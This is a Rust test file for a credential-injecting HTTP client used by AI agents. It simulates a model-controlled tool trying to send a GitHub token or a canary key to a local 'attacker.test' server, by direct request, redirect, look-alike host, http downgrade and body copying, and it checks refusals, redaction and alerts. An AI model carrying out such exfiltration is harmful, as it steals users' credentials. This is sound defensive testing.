//! The injecting HTTP client against two servers on 127.0.0.1: the real API (TLS, as
//! `api.github.com` through the client's resolver override and a test CA) and an
//! attacker (plain HTTP). A tool whose arguments a model controls tries every way of
//! getting the token to the attacker. No test output contains a secret: the servers'
//! records are compared with `==` and never printed, and every error, audit record,
//! alert, tool output and log line is checked at the end of each test.
#![allow(clippy::unwrap_used)] // test code: a panic is the failure report

use std::net::SocketAddr;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use async_trait::async_trait;
use axum::Router;
use axum::extract::{RawQuery, Request, State};
use axum::http::{HeaderMap, StatusCode, header};
use axum::response::{IntoResponse, Response};
use axum::routing::{get, post};
use hive_cred_core::{
    CredentialObject, CredentialProvider, CredentialType, ErrorKind, MemoryStorage, Result,
};
use hive_cred_runtime::{
    AgentRuntime, CANARY_TAG, InjectingClient, UsageSpecs, opaque_handle, with_node,
};
use tokio::net::TcpListener;

const TOKEN: &str = "ghp_first0123456789abcdefABCDEF";
const ROTATED: &str = "ghp_second9876543210zyxwvZYXWV";
const CANARY_VALUE: &str = "AKIAcanary5f3b9e1cDECOYdecoy";
const SECRETS: [&str; 3] = [TOKEN, ROTATED, CANARY_VALUE];

/// What the real API expects and saw.
#[derive(Default)]
struct Api {
    expected: Mutex<String>,
    /// Authorization headers received, in order.
    auth: Mutex<Vec<String>>,
    /// Query strings and bodies received by `/search`.
    search: Mutex<Vec<(String, String)>>,
    attacker: Mutex<String>,
}

/// Every request the attacker received (method, URI, headers, body).
#[derive(Default)]
struct Attacker {
    requests: Mutex<Vec<String>>,
}

impl Attacker {
    fn count(&self) -> usize {
        self.requests.lock().unwrap().len()
    }
    fn got_any_secret(&self) -> bool {
        self.requests
            .lock()
            .unwrap()
            .iter()
            .any(|r| r.contains(TOKEN) || r.contains(ROTATED))
    }
}

fn auth_of(headers: &HeaderMap) -> String {
    headers
        .get(header::AUTHORIZATION)
        .and_then(|v| v.to_str().ok())
        .unwrap_or("")
        .to_string()
}

async fn user(State(api): State<Arc<Api>>, headers: HeaderMap) -> Response {
    let auth = auth_of(&headers);
    api.auth.lock().unwrap().push(auth.clone());
    let ok = auth == format!("Bearer {}", api.expected.lock().unwrap());
    if ok {
        (StatusCode::OK, "{\"login\":\"octo\"}").into_response()
    } else {
        StatusCode::UNAUTHORIZED.into_response()
    }
}

async fn echo(State(api): State<Arc<Api>>, headers: HeaderMap) -> Response {
    let auth = auth_of(&headers);
    api.auth.lock().unwrap().push(auth.clone());
    let body = format!(
        "{{\"you_sent\":\"{auth}\",\"padding\":\"{}\"}}",
        "x".repeat(200)
    );
    ([("x-echo", auth)], body).into_response()
}

async fn away(State(api): State<Arc<Api>>, headers: HeaderMap) -> Response {
    api.auth.lock().unwrap().push(auth_of(&headers));
    let to = format!("{}/steal", api.attacker.lock().unwrap());
    (StatusCode::FOUND, [(header::LOCATION, to)]).into_response()
}

async fn moved(State(api): State<Arc<Api>>, headers: HeaderMap) -> Response {
    api.auth.lock().unwrap().push(auth_of(&headers));
    (StatusCode::FOUND, [(header::LOCATION, "/user")]).into_response()
}

async fn search(State(api): State<Arc<Api>>, RawQuery(q): RawQuery, body: String) -> Response {
    api.search
        .lock()
        .unwrap()
        .push((q.unwrap_or_default(), body));
    "ok".into_response()
}

/// Answers with the canary's value, as a careless API echoing a header might.
async fn backup() -> String {
    format!("stored key {CANARY_VALUE}")
}

async fn attacker_any(State(a): State<Arc<Attacker>>, req: Request) -> &'static str {
    let (parts, body) = req.into_parts();
    let body = axum::body::to_bytes(body, 1 << 20)
        .await
        .unwrap_or_default();
    let line = format!(
        "{} {} {:?} {}",
        parts.method,
        parts.uri,
        parts.headers,
        String::from_utf8_lossy(&body)
    );
    a.requests.lock().unwrap().push(line);
    "thanks"
}

/// A TLS listener for axum: accepts TCP, then the TLS handshake.
struct TlsListener {
    tcp: TcpListener,
    tls: tokio_rustls::TlsAcceptor,
}

impl axum::serve::Listener for TlsListener {
    type Io = tokio_rustls::server::TlsStream<tokio::net::TcpStream>;
    type Addr = SocketAddr;

    async fn accept(&mut self) -> (Self::Io, Self::Addr) {
        loop {
            let Ok((stream, addr)) = self.tcp.accept().await else {
                continue;
            };
            if let Ok(tls) = self.tls.accept(stream).await {
                return (tls, addr);
            }
        }
    }

    fn local_addr(&self) -> std::io::Result<SocketAddr> {
        self.tcp.local_addr()
    }
}

/// A test CA and a server certificate for `api.github.com` signed by it.
fn certificates() -> (reqwest::Certificate, tokio_rustls::TlsAcceptor) {
    use rcgen::{BasicConstraints, CertificateParams, IsCa, KeyPair};
    use rustls::pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer};
    let ca_key = KeyPair::generate().unwrap();
    let mut ca = CertificateParams::new(Vec::<String>::new()).unwrap();
    ca.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    let ca = ca.self_signed(&ca_key).unwrap();
    let key = KeyPair::generate().unwrap();
    let cert = CertificateParams::new(vec!["api.github.com".to_string()])
        .unwrap()
        .signed_by(&key, &ca, &ca_key)
        .unwrap();
    let config = rustls::ServerConfig::builder_with_provider(Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_no_client_auth()
    .with_single_cert(
        vec![CertificateDer::from(cert.der().to_vec())],
        PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(key.serialize_der())),
    )
    .unwrap();
    (
        reqwest::Certificate::from_pem(ca.pem().as_bytes()).unwrap(),
        tokio_rustls::TlsAcceptor::from(Arc::new(config)),
    )
}

/// Refreshes `github` to [`ROTATED`] and tells the API to expect it.
#[derive(Debug)]
struct Rotate {
    api: Arc<ApiHandle>,
    calls: AtomicUsize,
}

struct ApiHandle(Arc<Api>);

impl std::fmt::Debug for ApiHandle {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("ApiHandle")
    }
}

#[async_trait]
impl CredentialProvider for Rotate {
    fn provider_id(&self) -> &str {
        "github_oauth"
    }
    async fn refresh(&self, c: &CredentialObject) -> Result<CredentialObject> {
        // The first refresh rotates the token at the API as well; later ones do not.
        if self.calls.fetch_add(1, Ordering::SeqCst) == 0 {
            *self.api.0.expected.lock().unwrap() = ROTATED.to_string();
        }
        let mut n = c.clone();
        n.set_key("access_token", ROTATED, None)?;
        Ok(n)
    }
}

/// Captured log output.
#[derive(Clone, Default)]
struct Logs(Arc<Mutex<Vec<u8>>>);

impl std::io::Write for Logs {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

struct Fixture {
    api: Arc<Api>,
    attacker: Arc<Attacker>,
    /// `https://api.github.com:PORT`
    api_base: String,
    /// `http://attacker.test:PORT`
    attacker_base: String,
    attacker_port: u16,
    runtime: AgentRuntime,
    client: InjectingClient,
    provider: Arc<Rotate>,
    logs: Logs,
    _log_guard: tracing::subscriber::DefaultGuard,
    /// Every string a test produced (errors, outputs), checked for secrets at the end.
    outputs: Vec<String>,
}

async fn fixture() -> Fixture {
    let logs = Logs::default();
    let writer = logs.clone();
    let subscriber = tracing_subscriber::fmt()
        .with_max_level(tracing::Level::TRACE)
        .with_writer(move || writer.clone())
        .with_ansi(false)
        .finish();
    let log_guard = tracing::subscriber::set_default(subscriber);

    let (ca, acceptor) = certificates();
    let api = Arc::new(Api::default());
    *api.expected.lock().unwrap() = TOKEN.to_string();
    let tcp = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let api_addr = tcp.local_addr().unwrap();
    let router = Router::new()
        .route("/user", get(user))
        .route("/echo", get(echo))
        .route("/redirect-away", get(away))
        .route("/moved", get(moved))
        .route("/search", post(search))
        .route("/backup", get(backup))
        .with_state(api.clone());
    tokio::spawn(async move {
        let _ = axum::serve(TlsListener { tcp, tls: acceptor }, router).await;
    });

    let attacker = Arc::new(Attacker::default());
    let tcp = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let attacker_addr = tcp.local_addr().unwrap();
    let router = Router::new()
        .fallback(attacker_any)
        .with_state(attacker.clone());
    tokio::spawn(async move {
        let _ = axum::serve(tcp, router).await;
    });
    let api_base = format!("https://api.github.com:{}", api_addr.port());
    let attacker_base = format!("http://attacker.test:{}", attacker_addr.port());
    *api.attacker.lock().unwrap() = attacker_base.clone();

    let provider = Arc::new(Rotate {
        api: Arc::new(ApiHandle(api.clone())),
        calls: AtomicUsize::new(0),
    });
    let runtime = AgentRuntime::builder()
        .storage(Arc::new(MemoryStorage::new()))
        .provider(provider.clone())
        .build()
        .await
        .unwrap();
    let github = CredentialObject::builder("github", CredentialType::OAuth2)
        .provider_id("github_oauth")
        .key("access_token", TOKEN, None)
        .build()
        .unwrap();
    runtime.credential_store.save(github).await.unwrap();
    let decoy = CredentialObject::builder("aws_backup", CredentialType::ApiKey)
        .tag(CANARY_TAG)
        .key("secret_key", CANARY_VALUE, None)
        .build()
        .unwrap();
    runtime.credential_store.save(decoy).await.unwrap();

    let specs = UsageSpecs::from_toml(&format!(
        r#"
        [[usage]]
        name = "github"
        destinations = ["{api_base}"]
        headers = {{ Authorization = "Bearer {{{{github.access_token}}}}" }}

        [[usage]]
        name = "github_search"
        destinations = ["{api_base}/search"]
        query = {{ access_token = "{{{{github.access_token}}}}" }}
        body = {{ token = "{{{{github.access_token}}}}" }}

        [[usage]]
        name = "backup"
        destinations = ["{api_base}/backup"]
        headers = {{ X-Backup-Key = "{{{{aws_backup.secret_key}}}}" }}
        "#
    ))
    .unwrap();
    let localhost = |port| SocketAddr::from(([127, 0, 0, 1], port));
    let client = runtime
        .injecting_client(specs)
        .reqwest(
            reqwest::Client::builder()
                .add_root_certificate(ca)
                .resolve("api.github.com", localhost(api_addr.port()))
                .resolve("attacker.test", localhost(attacker_addr.port()))
                .resolve(
                    "api.github.com.attacker.test",
                    localhost(attacker_addr.port()),
                ),
        )
        .build()
        .unwrap();
    Fixture {
        api,
        attacker,
        api_base,
        attacker_base,
        attacker_port: attacker_addr.port(),
        runtime,
        client,
        provider,
        logs,
        _log_guard: log_guard,
        outputs: Vec::new(),
    }
}

impl Fixture {
    /// A GET sent through the injecting client under the `github` usage spec.
    async fn github_get(
        &self,
        url: &str,
    ) -> hive_cred_core::Result<hive_cred_runtime::ToolResponse> {
        self.client.get(url).usage("github").send().await
    }

    fn auth_seen(&self) -> Vec<String> {
        self.api.auth.lock().unwrap().clone()
    }

    /// Records an error for the final leak check and returns its kind.
    fn error_kind(&mut self, e: &hive_cred_core::Error) -> ErrorKind {
        self.outputs.push(format!("{e} {e:?}"));
        e.kind()
    }

    /// No secret in any error, output, audit record, alert or log line.
    fn assert_nothing_leaked(&self) {
        let mut all = self.outputs.clone();
        for r in self.runtime.audit_trail() {
            all.push(r.to_string());
            all.push(serde_json::to_string(&r).unwrap());
            all.push(format!("{r:?}"));
        }
        for a in self.runtime.canaries().alerts() {
            all.push(format!("{a} {a:?}"));
        }
        all.push(format!("{:?} {:?}", self.client, self.runtime));
        all.push(String::from_utf8_lossy(&self.logs.0.lock().unwrap()).into_owned());
        for (i, text) in all.iter().enumerate() {
            for s in SECRETS {
                assert!(!text.contains(s), "output {i} contains a secret");
            }
        }
    }
}

#[tokio::test]
async fn allowed_api_gets_the_credential_the_tool_never_holds_it() {
    let mut f = fixture().await;
    let resp = f.github_get(&format!("{}/user", f.api_base)).await.unwrap();
    assert_eq!(resp.status(), 200);
    assert!(!resp.url().as_str().contains(TOKEN));
    f.outputs.push(resp.text().await.unwrap());
    assert!(
        f.auth_seen() == [format!("Bearer {TOKEN}")],
        "the API got the token"
    );

    // A model-written handle in a header, no spec named: the spec naming `github`
    // allows the destination.
    let handle = opaque_handle("github", "access_token");
    let resp = f
        .client
        .get(&format!("{}/user", f.api_base))
        .header("Authorization", &format!("Bearer {handle}"))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);

    // Query and JSON body templates, and a handle in the body JSON-escaped.
    let resp = f
        .client
        .post(&format!("{}/search?q=rust", f.api_base))
        .usage("github_search")
        .json(&serde_json::json!({ "q": "rust", "echo": handle }))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let (query, body) = f.api.search.lock().unwrap()[0].clone();
    assert!(
        query == format!("q=rust&access_token={TOKEN}"),
        "query filled"
    );
    let body: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert!(body["token"] == TOKEN && body["echo"] == TOKEN && body["q"] == "rust");

    let injects: Vec<_> = f
        .runtime
        .audit_trail()
        .into_iter()
        .filter(|r| r.operation == "inject")
        .collect();
    // The third request attached `github` twice: by template and by handle.
    assert_eq!(injects.len(), 4);
    assert!(injects.iter().all(|r| {
        r.outcome == "ok"
            && r.credential_id == "github"
            && r.destination
                .as_deref()
                .is_some_and(|d| d.starts_with(&f.api_base))
    }));
    f.assert_nothing_leaked();
}

#[tokio::test]
async fn attacker_directly_is_refused_and_audited() {
    let mut f = fixture().await;
    let err = f
        .github_get(&format!("{}/steal", f.attacker_base))
        .await
        .unwrap_err();
    assert_eq!(f.error_kind(&err), ErrorKind::PermissionDenied);
    assert!(err.message().contains("attacker.test"), "{err}");
    assert!(
        err.message().contains("api.github.com"),
        "names what is allowed: {err}"
    );

    // The model put a handle into the URL of a request to its server.
    let handle = opaque_handle("github", "access_token");
    let err = f
        .client
        .get(&format!("{}/steal?t={handle}", f.attacker_base))
        .send()
        .await
        .unwrap_err();
    assert_eq!(f.error_kind(&err), ErrorKind::PermissionDenied);
    assert_eq!(f.attacker.count(), 0, "nothing reached the attacker");

    let refused: Vec<_> = f
        .runtime
        .audit_trail()
        .into_iter()
        .filter(|r| r.operation == "inject" && r.outcome == "error")
        .collect();
    assert_eq!(refused.len(), 2);
    assert!(
        refused
            .iter()
            .all(|r| r.error_kind.as_deref() == Some("permission_denied")
                && r.destination.as_deref()
                    == Some(&*format!("http://attacker.test:{}/steal", f.attacker_port)))
    );

    // Without a credential or handle, a request to the attacker is an ordinary one;
    // a handle in text that does not go through the client stays as written.
    let handle = opaque_handle("github", "access_token");
    assert_eq!(
        f.runtime.redact(&format!("x {handle}")),
        format!("x {handle}")
    );
    let resp = f
        .client
        .post(&format!("{}/log", f.attacker_base))
        .body("hello")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    assert_eq!(f.attacker.count(), 1);
    assert!(!f.attacker.got_any_secret());
    f.assert_nothing_leaked();
}

#[tokio::test]
async fn redirect_to_the_attacker_does_not_carry_the_credential() {
    let mut f = fixture().await;
    let resp = f
        .github_get(&format!("{}/redirect-away", f.api_base))
        .await
        .unwrap();
    assert_eq!(resp.status(), 302, "the tool gets the redirect, unfollowed");
    f.outputs.push(resp.text().await.unwrap());
    assert_eq!(f.attacker.count(), 0);
    assert!(!f.attacker.got_any_secret());
    assert!(f.runtime.audit_trail().iter().any(|r| {
        r.operation == "redirect"
            && r.error_kind.as_deref() == Some("permission_denied")
            && r.destination
                .as_deref()
                .is_some_and(|d| d.contains("attacker.test"))
    }));

    // A same-origin redirect is followed, with the credential.
    let resp = f
        .github_get(&format!("{}/moved", f.api_base))
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let bearer = format!("Bearer {TOKEN}");
    assert!(f.auth_seen() == [bearer.clone(), bearer.clone(), bearer]);
    f.assert_nothing_leaked();
}

#[tokio::test]
async fn http_instead_of_https_is_refused() {
    let mut f = fixture().await;
    let url = f.api_base.replace("https://", "http://");
    let err = f.github_get(&format!("{url}/user")).await.unwrap_err();
    assert_eq!(f.error_kind(&err), ErrorKind::PermissionDenied);
    assert!(err.message().contains("scheme"), "{err}");
    assert!(f.auth_seen().is_empty());
    f.assert_nothing_leaked();
}

#[tokio::test]
async fn look_alike_host_is_refused() {
    let mut f = fixture().await;
    let url = format!(
        "https://api.github.com.attacker.test:{}/user",
        f.attacker_port
    );
    let err = f.client.get(&url).usage("github").send().await.unwrap_err();
    assert_eq!(f.error_kind(&err), ErrorKind::PermissionDenied);
    // Userinfo that makes a URL look like it goes to the API.
    let url = format!(
        "http://api.github.com@attacker.test:{}/user",
        f.attacker_port
    );
    let err = f.client.get(&url).usage("github").send().await.unwrap_err();
    assert_eq!(f.error_kind(&err), ErrorKind::PermissionDenied);
    assert!(err.message().contains("userinfo"), "{err}");
    assert_eq!(f.attacker.count(), 0);
    f.assert_nothing_leaked();
}

#[tokio::test]
async fn unauthorized_refreshes_once_and_retries() {
    let mut f = fixture().await;
    // The API has rotated the token: the stored one gets a 401.
    *f.api.expected.lock().unwrap() = ROTATED.to_string();
    let resp = f.github_get(&format!("{}/user", f.api_base)).await.unwrap();
    assert_eq!(resp.status(), 200);
    f.outputs.push(resp.text().await.unwrap());
    assert_eq!(f.provider.calls.load(Ordering::SeqCst), 1);
    assert!(f.auth_seen() == [format!("Bearer {TOKEN}"), format!("Bearer {ROTATED}")]);

    // A 401 that refresh does not cure is returned after one retry, not looped on.
    *f.api.expected.lock().unwrap() = "never-matches-anything".to_string();
    let resp = f.github_get(&format!("{}/user", f.api_base)).await.unwrap();
    assert_eq!(resp.status(), 401);
    assert_eq!(f.provider.calls.load(Ordering::SeqCst), 2);
    assert_eq!(f.auth_seen().len(), 4);
    f.assert_nothing_leaked();
}

#[tokio::test]
async fn a_body_echoing_the_token_is_redacted_before_the_tool_sees_it() {
    let mut f = fixture().await;
    let resp = f.github_get(&format!("{}/echo", f.api_base)).await.unwrap();
    let header = resp.header("x-echo").unwrap();
    assert!(
        header == "Bearer [hive:github.access_token]",
        "header not redacted"
    );
    let text = resp.text().await.unwrap();
    assert!(text.starts_with("{\"you_sent\":\"Bearer [hive:github.access_token]\""));

    // Streamed, chunk by chunk.
    let mut resp = f.github_get(&format!("{}/echo", f.api_base)).await.unwrap();
    let mut streamed = Vec::new();
    while let Some(chunk) = resp.chunk().await.unwrap() {
        streamed.extend_from_slice(&chunk);
    }
    let streamed = String::from_utf8(streamed).unwrap();
    assert!(streamed == text, "streamed and whole reads differ");
    f.outputs.extend([header, text, streamed]);
    f.assert_nothing_leaked();
}

#[tokio::test]
async fn canary_use_raises_alerts_with_node_and_destination() {
    let mut f = fixture().await;
    let armed = f.runtime.arm_canaries().await.unwrap();
    assert_eq!(armed, 1);
    assert!(f.runtime.canaries().alerts().is_empty(), "arming is no use");
    let client = f.client.clone();
    let (api_base, attacker_base) = (f.api_base.clone(), f.attacker_base.clone());
    let store = f.runtime.credential_store.clone();
    let errors = with_node("summarize", async move {
        // 1. The tool injects the canary to an allowed destination.
        let resp = client
            .get(&format!("{api_base}/backup"))
            .usage("backup")
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 200);
        // ... and the API echoes it: the tool sees a marker, and the monitor an alert.
        let text = resp.text().await.unwrap();
        assert!(
            text == "stored key [hive:aws_backup.secret_key]",
            "not redacted"
        );
        // 2. The model copied the canary's value (seeded in a file) into a request.
        let resp = client
            .post(&format!("{attacker_base}/exfil"))
            .body(format!("found {CANARY_VALUE}"))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 200);
        // 3. The model asks for the canary through a handle, to its server.
        let err = client
            .get(&format!(
                "{attacker_base}/x?k={}",
                opaque_handle("aws_backup", "secret_key")
            ))
            .send()
            .await
            .unwrap_err();
        // 4. A tool reads it from the store.
        store.get("aws_backup").await.unwrap();
        err
    })
    .await;
    assert_eq!(f.error_kind(&errors), ErrorKind::PermissionDenied);

    let alerts = f.runtime.canaries().alerts();
    let vias: Vec<&str> = alerts.iter().map(|a| &*a.via).collect();
    assert_eq!(
        vias,
        [
            "resolve",
            "tool_output",
            "outgoing_request",
            "refused_injection",
            "get"
        ]
    );
    assert!(
        alerts
            .iter()
            .all(|a| a.node.as_deref() == Some("summarize") && a.credential_id == "aws_backup")
    );
    assert_eq!(
        alerts[0].destination.as_deref(),
        Some(&*format!("{}/backup", f.api_base))
    );
    assert_eq!(alerts[1].destination, alerts[0].destination);
    for a in &alerts[2..4] {
        assert!(a.destination.as_deref().unwrap().contains("attacker.test"));
    }
    assert_eq!(alerts[4].destination, None);
    let audited = f
        .runtime
        .audit_trail()
        .into_iter()
        .filter(|r| r.operation == "canary" && r.outcome == "alert")
        .count();
    assert_eq!(audited, 5);
    // The redactor knows the canary too: the attacker's echo of it would be a marker.
    assert!(
        f.runtime.redact(CANARY_VALUE) == "[hive:aws_backup.secret_key]",
        "canary value not redacted"
    );
    f.assert_nothing_leaked();
}

#[tokio::test]
async fn dry_run_reports_what_would_be_attached_and_unknown_specs_fail() {
    let mut f = fixture().await;
    let dry = f
        .client
        .get(&format!("{}/user", f.api_base))
        .usage("github")
        .dry_run()
        .await
        .unwrap();
    assert_eq!(dry.credentials, ["github"]);
    assert_eq!(dry.headers, ["authorization"]);
    let err = f
        .client
        .get(&format!("{}/user", f.api_base))
        .usage("nope")
        .send()
        .await
        .unwrap_err();
    assert_eq!(f.error_kind(&err), ErrorKind::Config);
    assert!(f.auth_seen().is_empty());
    f.outputs.push(format!("{dry:?}"));
    f.assert_nothing_leaked();
}
